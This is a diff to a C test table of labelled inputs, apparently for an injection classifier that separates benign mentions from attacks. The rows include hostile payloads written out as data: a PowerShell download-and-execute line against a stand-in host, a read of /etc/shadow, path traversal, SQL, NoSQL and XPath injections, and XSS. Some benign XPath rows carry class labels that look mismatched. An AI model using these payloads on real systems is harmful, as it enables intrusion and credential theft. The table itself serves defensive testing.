@@ -60,6 +60,7 @@ static const struct row {
                 "Which of the following inputs is an example of an attack on the page of another user?\n"
                 "A) http://127.0.0.1:9000/\nB) <script>confirm('x')</script>\n"
                 "Answer: B. The defence is to encode each value when the page is rendered."},
+        {CITED, GB_CLASS_XSS, "<button onclick=\"save()\">Save</button> does not call the function in this browser."},
         /* Lines of logs. */
         {CITED, GB_CLASS_SQL_INJECTION,
                 "[ALERT] WAF blocked request | policy=edge | category=sql | uri=/login | matched=\"1' OR 1=1--\" | "
@@ -69,6 +70,8 @@ static const struct row {
                 "\"GET /index.php?page=../../../../etc/passwd HTTP/1.1\" 404 153"},
         /* Its own language would read the words around as well. */
         {CITED, GB_CLASS_NOSQL_INJECTION, "Mango selector: {\"selector\": {\"year\": {\"$gt\": 2010}}}"},
+        {CITED, GB_CLASS_COMMAND_INJECTION, "//book[price>35]/title | //book[author=\"X\"]"},
+        {CITED, GB_CLASS_SQL_INJECTION, "//div[@class='a' or @class='b']/a[contains(@href,'x')]"},
         {CITED, GB_CLASS_CODE_INJECTION,
                 "<?php echo trim($_GET['q']); ?> prints a blank in front of the text, is that right?"},
         /* In use: nothing around, a comment around, or the talk of something else. */
@@ -83,6 +86,8 @@ static const struct row {
         {ATTACK, GB_CLASS_CODE_INJECTION,
                 "<?php system($_GET['q']); ?> prints a blank in front of the text, is that right?"},
         {ATTACK, GB_CLASS_NOSQL_INJECTION, "admin\", \"password\": {\"$ne\": \"\"}, \"x\": \""},
+        {ATTACK, GB_CLASS_SQL_INJECTION, "//user[name/text()='' or '1'='1']"},
+        {ATTACK, GB_CLASS_XSS, "<img src=x onerror=alert(1)> Great article, thank you very much!"},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "Get-ChildItem; iex (iwr http://evil.example/a.ps1)"},
         {ATTACK, GB_CLASS_COMMAND_INJECTION, "cat notes.txt; cat /etc/shadow"},
         /* What reaches out is an attack in a sentence of whatever kind. */
